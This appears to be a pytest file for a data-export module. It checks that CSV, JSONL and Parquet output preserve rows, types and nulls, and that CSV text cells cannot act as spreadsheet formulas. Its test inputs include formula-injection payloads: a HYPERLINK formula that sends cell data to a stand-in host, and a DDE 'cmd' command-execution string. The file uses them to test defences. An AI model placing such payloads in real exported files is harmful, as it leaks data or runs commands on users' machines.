"""Each format holds every row: hostile text stays text, missing stays missing, numbers stay numbers."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
from adaem.domain.errors import InputError, StoreError
from adaem.domain.texts.safe_text import harmless
from adaem.reports.export.as_csv import write_csv
from adaem.reports.export.as_jsonl import write_jsonl
from adaem.reports.export.as_parquet import write_parquet
from adaem.reports.export.columns import Column, Kind
from adaem.reports.export.export_folder import export_folder
from hypothesis import given
from hypothesis import strategies as st
from small_world import HOSTILE

COLUMNS = tuple(Column(name=kind.name.lower(), kind=kind, unit="bits", meaning=f"A {kind}.") for kind in Kind)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)
TEXTS = (
    *HOSTILE.values(),
    *FORMULAS,
    "",
    "a,b;c",
    'say "no"',
    "two\nlines",
    "ترجمة",
    "価値観",
    "\u2028",
    "👩‍👩‍👧",
    "'quoted'",
)
Row = dict[str, Any]


def row(text: str | None, **cells: Any) -> Row:
    return {"text": text, "integer": None, "number": None, "truth": None, "json": None} | cells


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def written(tmp_path: Path, rows: list[Row]) -> list[dict[str, str]]:
    assert write_csv(tmp_path / "table.csv", COLUMNS, iter(rows)) == len(rows)
    return read_csv(tmp_path / "table.csv")


def test_jsonl_and_parquet_hold_every_text_as_it_was_said(tmp_path: Path) -> None:
    rows = [row(text, json=[text, {text: None}]) for text in TEXTS]
    assert write_jsonl(tmp_path / "t.jsonl", COLUMNS, iter(rows)) == len(rows)
    lines = (tmp_path / "t.jsonl").read_text(encoding="utf-8").split("\n")
    assert [json.loads(line) for line in lines[:-1]] == rows
    assert write_parquet(tmp_path / "t.parquet", COLUMNS, iter(rows)) == len(rows)
    found = pyarrow.parquet.read_table(tmp_path / "t.parquet").to_pylist()
    assert [each | {"json": json.loads(each["json"])} for each in found] == rows


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_cell_of_csv_is_a_formula(tmp_path: Path, text: str) -> None:
    (cell,) = (each["text"] for each in written(tmp_path, [row(text)]))
    assert cell == f"'{harmless(text)}"


@given(st.text(max_size=20))
def test_csv_cells_begin_harmlessly_and_lose_no_word(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    (cell,) = (each["text"] for each in written(tmp_path_factory.mktemp("csv"), [row(text)]))
    assert cell.removeprefix("'") == harmless(text).removeprefix("'")
    assert cell.lstrip()[:1] not in {*"=+-@＝＋－＠"}


def test_csv_of_hostile_texts_keeps_its_rows_and_columns(tmp_path: Path) -> None:
    found = written(tmp_path, [row(text, json={text: text}, integer=number) for number, text in enumerate(TEXTS)])
    assert [each["integer"] for each in found] == [str(number) for number in range(len(TEXTS))]
    assert all(set(each) == {column.name for column in COLUMNS} for each in found)
    assert "\x00" not in (tmp_path / "table.csv").read_text(encoding="utf-8")


def test_negative_numbers_stay_numbers_and_zero_is_not_missing(tmp_path: Path) -> None:
    rows = [row("a", integer=-3, number=-0.25, truth=False, json=[]), row("b", integer=0, number=1e-7), row(None)]
    first, second, third = written(tmp_path, rows)
    assert first == {"text": "a", "integer": "-3", "number": "-0.25", "truth": "false", "json": "[]"}
    assert (second["integer"], float(second["number"]), second["truth"]) == ("0", 1e-7, "")
    assert set(third.values()) == {""}


def test_parquet_has_types_nulls_units_and_meanings(tmp_path: Path) -> None:
    rows = [row("a", integer=-3, number=-0.25, truth=False, json=[]), row(None)]
    write_parquet(tmp_path / "t.parquet", COLUMNS, rows)
    table = pyarrow.parquet.read_table(tmp_path / "t.parquet")
    assert [str(field.type) for field in table.schema] == ["string", "int64", "double", "bool", "string"]
    assert table.schema.field("number").metadata == {b"unit": b"bits", b"meaning": b"A number."}
    assert table.to_pylist() == [rows[0] | {"json": "[]"}, rows[1]]


def test_parquet_writes_more_than_one_batch_and_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("adaem.reports.export.as_parquet.ROWS_AT_ONCE", 2)
    assert write_parquet(tmp_path / "five.parquet", COLUMNS, (row(str(number)) for number in range(5))) == 5
    assert pyarrow.parquet.read_table(tmp_path / "five.parquet")["text"].to_pylist() == list("01234")
    assert write_parquet(tmp_path / "none.parquet", COLUMNS, []) == 0
    assert pyarrow.parquet.read_table(tmp_path / "none.parquet").num_rows == 0


def test_without_pyarrow_it_says_how_to_install_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(InputError, match=r"pip install 'adaem\[parquet\]'"):
        write_parquet(tmp_path / "t.parquet", COLUMNS, [])


def test_an_export_takes_no_file_and_no_foreign_folder(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(StoreError, match="is a file"), export_folder(tmp_path / "file", frozenset()):
        pass
    with pytest.raises(StoreError, match="'file'"), export_folder(tmp_path, frozenset({"table.csv"})):
        pass
    with pytest.raises(StoreError, match="cannot be written"), export_folder(tmp_path / "file" / "in", frozenset()):
        pass
